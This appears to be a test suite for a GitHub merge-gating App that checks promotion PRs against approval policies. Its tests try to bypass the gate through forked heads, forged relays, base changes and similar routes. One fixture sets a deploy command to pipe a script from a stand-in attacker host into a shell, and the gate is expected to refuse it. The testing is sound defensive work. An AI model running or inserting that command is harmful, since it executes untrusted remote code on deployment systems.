/**
 * The gate holds against a writer who wants around it (DESIGN §6). Every attack runs the gate's
 * bundle as the runner runs it (dist/gate.js, a real webhook payload, the App's installation
 * token) against the GitHub simulator, with main protected by a ruleset that requires
 * `pinline/gate` from the gate's App — and each test asserts what GitHub then lets through.
 * The simulator's own behaviour (check-run lifecycle, app ownership, rulesets, activity, caps,
 * forks) is held to GitHub's documentation in test/github-simulator*.test.ts.
 */
import { execFileSync } from "node:child_process";
import { Octokit } from "@octokit/rest";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { planEnvironment } from "../src/gate/plan-environment.js";
import { runUpdateCheck } from "../src/promote/update-check.js";
import { removeCopies } from "./harness/example-repo.js";
import {
  hoursAfter,
  type Person,
  type PromotionRepo,
  startLivePromotionRepo,
} from "./harness/promotion-repo.js";
import { type ActionRun, runActionAsync } from "./harness/runner.js";
import { pullRequestEvent, workflowRunEvent } from "./harness/webhook-payload.js";

let repo: PromotionRepo;
let gateApp: number;
let branches = 0;

const GATE = "pinline/gate";

beforeAll(async () => {
  repo = await startLivePromotionRepo();
  gateApp = repo.apps.pinline.id;
  // docs.github.com/en/repositories/configuring-branches-and-merges-in-your-repository/managing-rulesets/available-rules-for-rulesets:
  // "you can select an app as the expected source of status updates".
  repo.protectMain();
});

afterAll(async () => {
  await repo?.close();
  removeCopies();
});

const where = () => ({ owner: repo.sim.owner, repo: repo.sim.repo });

function env() {
  return { GITHUB_API_URL: repo.sim.url, GITHUB_REPOSITORY: `${repo.sim.owner}/${repo.sim.repo}` };
}

/** The gate's bundle on one event, from a fresh full checkout of main (actions/checkout, fetch-depth 0). */
async function runGate(eventName: string, event: unknown, inputs: Record<string, string> = {}) {
  return runActionAsync("gate", {
    workspace: repo.checkout(),
    inputs: { "github-token": repo.tokens.bot, "app-slug": "pinline", ...inputs },
    eventName,
    event,
    env: env(),
  });
}

async function pullOf(number: number) {
  return (await repo.as("alice").rest.pulls.get({ ...where(), pull_number: number })).data;
}

/** pull_request_target for a PR as it is now: what GitHub sends when it is opened or pushed to. */
async function onPullRequest(
  number: number,
  action: "opened" | "synchronize" | "edited" = "synchronize",
  changes?: Record<string, unknown>,
) {
  const pull = await pullOf(number);
  return runGate(
    "pull_request_target",
    pullRequestEvent(
      action,
      {
        ...where(),
        number,
        headSha: pull.head.sha,
        headRef: pull.head.ref,
        baseRef: pull.base.ref,
        sender: pull.user?.login ?? "dana",
      },
      changes,
    ),
  );
}

/** The relay of a review (gate-review.yml completed): workflow_run names the PR's head. */
async function onReview(number: number) {
  const pull = await pullOf(number);
  return runGate(
    "workflow_run",
    workflowRunEvent({
      ...where(),
      workflow: "gate-review",
      headSha: pull.head.sha,
      headBranch: pull.head.ref,
      event: "pull_request_review",
    }),
  );
}

async function review(person: Person, number: number, event: "APPROVE" | "REQUEST_CHANGES") {
  await repo.as(person).rest.pulls.createReview({
    ...where(),
    pull_number: number,
    event,
    ...(event === "REQUEST_CHANGES" ? { body: "not yet" } : {}),
  });
}

/** The gate App's check runs on a commit, oldest first. */
function gateChecks(headSha: string) {
  return repo.sim.state.checkRuns.filter(
    (run) => run.headSha === headSha && run.name === GATE && run.appId === gateApp,
  );
}

/** Whether GitHub merges the PR now (the ruleset enforced), and its message when it refuses. */
async function merge(number: number): Promise<{ merged: boolean; message: string }> {
  try {
    await repo
      .as("bob")
      .rest.pulls.merge({ ...where(), pull_number: number, merge_method: "squash" });
    return { merged: true, message: "" };
  } catch (error) {
    return { merged: false, message: (error as Error).message };
  }
}

function nextBranch(prefix: string): string {
  branches += 1;
  return `${prefix}-${branches}`;
}

async function openPr(
  files: Record<string, string | null>,
  options: { by?: Person; pusher?: string; base?: string; title?: string } = {},
) {
  const branch = nextBranch("change");
  const by = options.by ?? "dana";
  // A message of its own: the same change on the same parent would otherwise be the same commit.
  const headSha = await repo.sim.commitFiles(branch, files, {
    author: by,
    message: `Change ${branch}`,
    ...(options.pusher ? { pusher: options.pusher } : {}),
  });
  const { data } = await repo.as(by).rest.pulls.create({
    ...where(),
    head: branch,
    base: options.base ?? "main",
    title: options.title ?? `Change (${branch})`,
  });
  return { number: data.number, headSha, branch };
}

function summaryOf(run: ActionRun) {
  return run.summary.replace(/\s+/g, " ");
}

describe("verdicts bound to the protected base", () => {
  it("fails a PR into a branch that is not protected, whatever it changes", async () => {
    await repo.sim.commitFiles("scratch", { "docs/scratch.md": "scratch\n" });
    const pr = await openPr(
      { "environments/production-canary.yaml": repo.pinWith("production-canary", "2.4.1") },
      { base: "scratch" },
    );
    await review("alice", pr.number, "APPROVE");
    await review("bob", pr.number, "APPROVE");
    const run = await onPullRequest(pr.number, "opened");
    expect(run.code).toBe(1);
    const [check] = gateChecks(pr.headSha);
    expect(check).toMatchObject({ status: "completed", conclusion: "failure" });
    expect(check?.output.title).toBe("pull request: cannot pass as it is");
    expect(check?.output.summary).toContain(
      "the base branch is scratch, which is not a protected branch: pinline/gate passes only pull requests into main",
    );
  });

  it("never lets a head shared with a PR into a weaker protected base carry that base's pass", async () => {
    // release/2.x is protected too, but its policy asks for no approvals at all.
    await repo.sim.commitFiles("release/2.x", {
      "policies/production.yaml": repo
        .policyText("production")
        .replace(/approval:\n {2}required: 2/, "approval:\n  required: 0"),
    });
    const branch = nextBranch("shared-head");
    const headSha = await repo.sim.commitFiles(
      branch,
      { "environments/production-canary.yaml": repo.pinWith("production-canary", "2.4.1") },
      { author: "dana", message: `Promote canary (${branch})` },
    );
    const intoRelease = await repo.as("dana").rest.pulls.create({
      ...where(),
      head: branch,
      base: "release/2.x",
      title: "Promote canary (release line)",
    });
    const intoMain = await repo.as("dana").rest.pulls.create({
      ...where(),
      head: branch,
      base: "main",
      title: "Promote canary",
    });
    const inputs = { "protected-branches": "main, release/*" };
    const pull = await pullOf(intoRelease.data.number);
    await runGate(
      "pull_request_target",
      pullRequestEvent("opened", {
        ...where(),
        number: pull.number,
        headSha,
        headRef: branch,
        baseRef: "release/2.x",
      }),
      inputs,
    );
    const checks = gateChecks(headSha);
    expect(checks.at(-1)).toMatchObject({ status: "in_progress", conclusion: null });
    expect(checks.at(-1)?.output.summary).toContain("Other pull requests with this head commit");
    // Judged alone, the PR into release/2.x passes; the check on the head carries the worst.
    expect(checks.at(-1)?.output.summary).toContain("production-canary: 2.4.0 → 2.4.1 — pass");
    expect(checks.at(-1)?.output.summary).toMatch(/#\d+ \| main \| ⏳ waiting/);
    // GitHub reads required checks by head commit: the PR into main must not be mergeable.
    const refused = await merge(intoMain.data.number);
    expect(refused.merged).toBe(false);
    expect(refused.message).toContain('Required status check "pinline/gate"');
  });

  it("judges a base change again: a PR moved off main fails", async () => {
    const pr = await openPr({ "docs/notes.md": "notes\n" });
    await onPullRequest(pr.number, "opened");
    expect(gateChecks(pr.headSha).at(-1)).toMatchObject({ conclusion: "success" });
    await repo.sim.commitFiles("scratch-2", { "docs/scratch.md": "scratch\n" });
    await repo
      .as("dana")
      .rest.pulls.update({ ...where(), pull_number: pr.number, base: "scratch-2" });
    const run = await onPullRequest(pr.number, "edited", {
      base: { ref: { from: "main" }, sha: { from: pr.headSha } },
    });
    expect(run.code).toBe(1);
    const checks = gateChecks(pr.headSha);
    expect(checks).toHaveLength(2);
    expect(checks[0]).toMatchObject({ status: "completed", conclusion: "success" });
    expect(checks[1]).toMatchObject({ status: "completed", conclusion: "failure" });
  });
});

describe("GitHub's check-run lifecycle", () => {
  it("writes a changed verdict as a new check run and never touches a completed one", async () => {
    const pr = await openPr({
      "environments/production-canary.yaml": repo.pinWith("production-canary", "2.4.1"),
    });
    await review("alice", pr.number, "APPROVE");
    await review("bob", pr.number, "APPROVE");
    await onPullRequest(pr.number, "opened");
    const [passed] = gateChecks(pr.headSha);
    expect(passed).toMatchObject({ status: "completed", conclusion: "success" });
    // A reviewer with write access asks for changes after the pass.
    await review("carol", pr.number, "REQUEST_CHANGES");
    const before = repo.sim.requests.length;
    const run = await onReview(pr.number);
    expect(run.outputs.status).toBe("waiting");
    const checks = gateChecks(pr.headSha);
    expect(checks).toHaveLength(2);
    expect(checks[0]).toMatchObject({ id: passed?.id, status: "completed", conclusion: "success" });
    expect(checks[1]).toMatchObject({ status: "in_progress", conclusion: null });
    expect(
      repo.sim.requests
        .slice(before)
        .filter((r) => r.method === "PATCH" && r.path.includes(`/check-runs/${passed?.id}`)),
    ).toEqual([]);
    expect(await merge(pr.number)).toMatchObject({ merged: false });
  });

  it("judged again unchanged, leaves the check run as it is", async () => {
    const pr = await openPr({ "docs/more-notes.md": "notes\n" });
    await onPullRequest(pr.number, "opened");
    await runGate("schedule", { schedule: "*/15 * * * *" }, { pr: String(pr.number) });
    expect(gateChecks(pr.headSha)).toHaveLength(1);
  });

  it("renews a waiting check before GitHub marks it stale after 14 days", async () => {
    const pr = await openPr({
      "environments/production-canary.yaml": repo.pinWith("production-canary", "2.4.1"),
    });
    const real = () => new Date();
    repo.sim.setClock(() => hoursAfter(new Date(), -13 * 24));
    await onPullRequest(pr.number, "opened");
    repo.sim.setClock(real);
    const [waiting] = gateChecks(pr.headSha);
    expect(waiting).toMatchObject({ status: "in_progress" });
    await runGate("schedule", {}, { pr: String(pr.number) });
    const checks = gateChecks(pr.headSha);
    expect(checks).toHaveLength(2);
    expect(checks[1]).toMatchObject({ status: "in_progress" });
    expect(Date.parse(checks[1]?.startedAt ?? "")).toBeGreaterThan(
      Date.parse(waiting?.startedAt ?? ""),
    );
  });
});

describe("who pushed, known for certain", () => {
  it("does not count the approval of who pushed the head, known from GitHub's record, not the event's sender", async () => {
    // dana wrote the commit and the event names dana; GitHub's record says alice pushed it.
    const pr = await openPr(
      { "environments/production-canary.yaml": repo.pinWith("production-canary", "2.4.1") },
      { pusher: "alice" },
    );
    await review("alice", pr.number, "APPROVE");
    await review("bob", pr.number, "APPROVE");
    const run = await onPullRequest(pr.number, "opened");
    expect(run.outputs.status).toBe("waiting");
    expect(summaryOf(run)).toContain("alice pushed the head commit");
    expect(await merge(pr.number)).toMatchObject({ merged: false });
  });

  it("counts no approval when GitHub cannot tell who pushed: a head in a fork", async () => {
    const fork = repo.sim.addFork("erin");
    const branch = nextBranch("from-fork");
    const headSha = await repo.sim.commitFiles(
      branch,
      { "environments/production-canary.yaml": repo.pinWith("production-canary", "2.4.1") },
      { author: "erin", fork: "erin", message: `Promote canary (${branch})` },
    );
    const { data } = await repo.as("erin").rest.pulls.create({
      ...where(),
      head: `${fork.owner}:${branch}`,
      base: "main",
      title: "Promote canary from a fork",
    });
    await review("alice", data.number, "APPROVE");
    await review("bob", data.number, "APPROVE");
    const run = await onPullRequest(data.number, "opened");
    expect(run.outputs.status).toBe("waiting");
    expect(summaryOf(run)).toContain(`cannot tell who pushed ${headSha.slice(0, 7)}`);
    expect(summaryOf(run)).toContain("so no approval counts");
  });

  it("reads the head commit itself, past the 250 commits GitHub lists for a PR", async () => {
    const branch = nextBranch("long");
    // 259 commits by dana, then the head, written by bob and pushed by dana.
    appendCommits(branch, 259, "dana");
    const headSha = await repo.sim.commitFiles(
      branch,
      { "environments/production-canary.yaml": repo.pinWith("production-canary", "2.4.1") },
      { author: "bob", pusher: "dana" },
    );
    const { data } = await repo.as("dana").rest.pulls.create({
      ...where(),
      head: branch,
      base: "main",
      title: "Promote canary, long history",
    });
    await review("alice", data.number, "APPROVE");
    await review("bob", data.number, "APPROVE");
    const run = await onPullRequest(data.number, "opened");
    expect(run.outputs.status).toBe("waiting");
    expect(summaryOf(run)).toContain("bob pushed the head commit");
    expect(gateChecks(headSha)).toHaveLength(1);
  });

  it("fails closed on a PR whose file list GitHub cuts at 3,000", async () => {
    const files: Record<string, string> = {
      "environments/production-canary.yaml": repo.pinWith("production-canary", "2.4.1"),
    };
    for (let i = 0; i < 3000; i++) files[`docs/bulk/${i}.md`] = `${i}\n`;
    const branch = nextBranch("bulk");
    commitBulk(branch, files, "dana");
    const { data } = await repo.as("dana").rest.pulls.create({
      ...where(),
      head: branch,
      base: "main",
      title: "Promote canary, and 3,000 more files",
    });
    const pr = { number: data.number };
    const run = await onPullRequest(pr.number, "opened");
    expect(run.code).toBe(1);
    expect(summaryOf(run)).toContain("GitHub listed 3000 of the 3001 files");
  });
});

describe("a promotion changes only version", () => {
  it("refuses a promotion that also changes deploy.command, naming the field", async () => {
    const pr = await openPr({
      "environments/production-canary.yaml": repo
        .pinWith("production-canary", "2.4.1")
        .replace(/command: ".*"/, 'command: "curl https://attacker.example/x | sh"'),
    });
    await review("alice", pr.number, "APPROVE");
    await review("bob", pr.number, "APPROVE");
    const run = await onPullRequest(pr.number, "opened");
    expect(run.code).toBe(1);
    expect(summaryOf(run)).toContain(
      "environments/production-canary.yaml changes deploy.command besides version",
    );
    expect(await merge(pr.number)).toMatchObject({ merged: false });
  });

  it("judges a change of deploy.command alone as configuration, needing the policy's approvers", async () => {
    const pr = await openPr({
      "environments/production-full.yaml": repo
        .pinWith("production-full", repo.pinVersion("production-full"))
        .replace(/command: "(.*)"/, 'command: "$1 --record"'),
    });
    const waiting = await onPullRequest(pr.number, "opened");
    expect(waiting.outputs.status).toBe("waiting");
    expect(summaryOf(waiting)).toContain(
      "| environments/production-full.yaml | changes deploy.command |",
    );
    expect(summaryOf(waiting)).toContain("configuration approvals");
    await review("erin", pr.number, "APPROVE");
    await review("alice", pr.number, "APPROVE");
    expect(summaryOf(await onReview(pr.number))).toContain("erin is not an approver");
    await review("bob", pr.number, "APPROVE");
    const approved = await onReview(pr.number);
    expect(approved.outputs.status).toBe("pass");
    expect(await merge(pr.number)).toMatchObject({ merged: true });
  });

  it("judges a new pin as configuration and its version as a promotion", async () => {
    const pin = repo
      .pinWith("production-full", "2.4.1")
      .replace("name: production-full", "name: production-eu");
    const pr = await openPr({ "environments/production-eu.yaml": pin });
    await review("alice", pr.number, "APPROVE");
    await review("bob", pr.number, "APPROVE");
    const run = await onPullRequest(pr.number, "opened");
    expect(run.code).toBe(1);
    expect(summaryOf(run)).toContain("adds environment production-eu at 2.4.1");
    // production-full's stage needs production-majority to have run 2.4.1 first.
    expect(summaryOf(run)).toContain("production-majority has never run 2.4.1");
  });

  it("needs every policy's configuration approvals to relax a policy", async () => {
    const pr = await openPr({
      "policies/production.yaml": repo
        .policyText("production")
        .replace(/approval:\n {2}required: 2/, "approval:\n  required: 0"),
    });
    await review("alice", pr.number, "APPROVE");
    await review("bob", pr.number, "APPROVE");
    const run = await onPullRequest(pr.number, "opened");
    expect(run.outputs.status).toBe("waiting");
    expect(summaryOf(run)).toContain("policies/pre-production.yaml: 0 of 1 approvals");
    expect(await merge(pr.number)).toMatchObject({ merged: false });
  });

  it("judges a change to the gate's own workflow as configuration", async () => {
    const pr = await openPr({
      ".github/workflows/gate.yml": "name: gate\non: pull_request\njobs: {}\n",
    });
    const run = await onPullRequest(pr.number, "opened");
    expect(run.outputs.status).toBe("waiting");
    expect(summaryOf(run)).toContain("| .github/workflows/gate.yml | added |");
  });
});

describe("no ungoverned environment, no fail-open", () => {
  it("never passes an environment that no policy governs", async () => {
    const pin = repo.pinWith("dev", "2.4.0").replace("name: dev", "name: sandbox");
    await repo.sim.commitFiles("main", { "environments/sandbox.yaml": pin });
    const pr = await openPr({
      "environments/sandbox.yaml": pin.replace('version: "2.4.0"', 'version: "2.4.1"'),
    });
    const run = await onPullRequest(pr.number, "opened");
    expect(run.code).toBe(1);
    expect(summaryOf(run)).toContain("no policy governs environments/sandbox.yaml");
    await repo.sim.commitFiles("main", { "environments/sandbox.yaml": null });
  });

  it("fails closed while a policy on main does not validate, naming file:line, and recovers with a new check run", async () => {
    const pr = await openPr({
      "environments/production-canary.yaml": repo.pinWith("production-canary", "2.4.1"),
    });
    await review("alice", pr.number, "APPROVE");
    await review("bob", pr.number, "APPROVE");
    const good = repo.policyText("production");
    await repo.sim.commitFiles("main", {
      "policies/production.yaml": good.replace("required: 2", "required: two"),
    });
    const broken = await onPullRequest(pr.number, "opened");
    expect(broken.code).toBe(1);
    expect(summaryOf(broken)).toMatch(
      /fails closed: policies\/production\.yaml:\d+:\d+: the gate refuses to judge/,
    );
    await repo.sim.commitFiles("main", { "policies/production.yaml": good });
    const fixed = await runGate("push", {}, { pr: String(pr.number) });
    expect(fixed.outputs["pull-requests"]?.split(",")).toContain(String(pr.number));
    const checks = gateChecks(pr.headSha);
    expect(checks.map((c) => c.conclusion)).toEqual(["failure", "success"]);
  });

  it("never counts a bot's approval unless a policy lists it by login", async () => {
    repo.sim.addApp("review-bot", { permissions: { pull_requests: "write", contents: "read" } });
    const bot = new Octokit({
      baseUrl: repo.sim.url,
      auth: repo.sim.installationToken("review-bot"),
    });
    const pr = await openPr({
      "environments/production-canary.yaml": repo.pinWith("production-canary", "2.4.1"),
    });
    await bot.rest.pulls.createReview({ ...where(), pull_number: pr.number, event: "APPROVE" });
    await review("alice", pr.number, "APPROVE");
    const run = await onPullRequest(pr.number, "opened");
    expect(run.outputs.status).toBe("waiting");
    expect(summaryOf(run)).toContain("review-bot[bot] is a bot account");
  });
});

describe("hold after revert", () => {
  it("never passes a version reverted in the environment until a promotion tries it again on purpose", async () => {
    // production-partial ran 2.4.1 for a while and was reverted to 2.4.0.
    await repo.setPins({ "production-partial": "2.4.1" }, hoursAfter(new Date(), -30));
    await repo.setPins({ "production-partial": "2.4.0" }, hoursAfter(new Date(), -29));
    const pr = await openPr({
      "environments/production-partial.yaml": repo.pinWith("production-partial", "2.4.1"),
    });
    const held = await onPullRequest(pr.number, "opened");
    expect(held.code).toBe(1);
    expect(summaryOf(held)).toContain("2.4.1 was reverted in production-partial on");
    // Neither plan nor the update-check bot proposes it there again.
    const checkout = repo.checkout();
    const plan = await planEnvironment({ root: checkout, environment: "production-partial" });
    expect(plan.to).toBeUndefined();
    const [outcome] = await runUpdateCheck({
      root: checkout,
      forge: repo.forge,
      now: new Date(),
      environments: ["production-partial"],
    });
    expect(outcome).toMatchObject({ action: "up-to-date" });
    expect(outcome?.reason).toContain("held after a revert here, never proposed again: 2.4.1");
    const branch = pr.branch;
    const retry = await repo.sim.commitFiles(
      branch,
      {
        "environments/production-partial.yaml": `${repo.pinWith("production-partial", "2.4.1")}# retry\n`,
      },
      { author: "dana", message: "Promote production-partial to 2.4.1\n\nPinline-Retry: 2.4.1" },
    );
    const retried = await onPullRequest(pr.number);
    expect(summaryOf(retried)).toContain("this promotion tries it again (Pinline-Retry: 2.4.1)");
    expect(gateChecks(retry).at(-1)?.output.summary).not.toContain("revert hold | ❌");
  });
});

describe("only events whose workflow comes from the default branch", () => {
  it("refuses to run on pull_request, where the PR's own copy of the workflow runs", async () => {
    const pr = await openPr({ "docs/x.md": "x\n" });
    const pull = await pullOf(pr.number);
    const run = await runGate(
      "pull_request",
      pullRequestEvent("opened", {
        ...where(),
        number: pr.number,
        headSha: pull.head.sha,
        headRef: pull.head.ref,
      }),
    );
    expect(run.code).toBe(1);
    expect(run.commands.find((c) => c.command === "error")?.message).toContain(
      "the gate does not run on pull_request",
    );
    expect(gateChecks(pr.headSha)).toEqual([]);
  });

  it("judges a relayed head from the API alone: a forged relay run passes nothing", async () => {
    const pr = await openPr({
      "environments/production-canary.yaml": repo.pinWith("production-canary", "2.4.1"),
    });
    const run = await runGate(
      "workflow_run",
      workflowRunEvent({
        ...where(),
        workflow: "gate-review",
        headSha: pr.headSha,
        headBranch: "main",
        event: "push",
      }),
    );
    expect(run.outputs.status).toBe("waiting");
    expect(gateChecks(pr.headSha).at(-1)).toMatchObject({ status: "in_progress" });
  });
});

/** Appends `count` commits by `author` to a new branch from main, straight into the bare repository. */
function appendCommits(branch: string, count: number, author: string): void {
  const git = (args: string[], input?: string) =>
    execFileSync("git", ["-C", repo.sim.bareRepo, ...args], { encoding: "utf8", input }).trim();
  let parent = git(["rev-parse", "main"]);
  const tree = git(["rev-parse", `${parent}^{tree}`]);
  const identity = {
    GIT_AUTHOR_NAME: author,
    GIT_AUTHOR_EMAIL: `${author}@users.noreply.github.com`,
    GIT_COMMITTER_NAME: author,
    GIT_COMMITTER_EMAIL: `${author}@users.noreply.github.com`,
  };
  for (let i = 0; i < count; i++) {
    parent = execFileSync(
      "git",
      ["-C", repo.sim.bareRepo, "commit-tree", tree, "-p", parent, "-m", `step ${i}`],
      { encoding: "utf8", env: { ...process.env, ...identity } },
    ).trim();
  }
  git(["update-ref", `refs/heads/${branch}`, parent]);
}

/** One commit of many files on a new branch from main, with git fast-import (one process). */
function commitBulk(branch: string, files: Record<string, string>, author: string): void {
  const parent = repo.git("rev-parse", "main");
  const when = `${Math.floor(Date.now() / 1000)} +0000`;
  const who = `${author} <${author}@users.noreply.github.com> ${when}`;
  const lines = [
    `commit refs/heads/${branch}`,
    `author ${who}`,
    `committer ${who}`,
    "data <<EOM",
    `Change ${branch}`,
    "EOM",
    `from ${parent}`,
  ];
  for (const [path, text] of Object.entries(files)) {
    lines.push(`M 100644 inline ${path}`, `data ${Buffer.byteLength(text)}`, text);
  }
  execFileSync("git", ["-C", repo.sim.bareRepo, "fast-import", "--quiet"], {
    input: `${lines.join("\n")}\n`,
  });
}
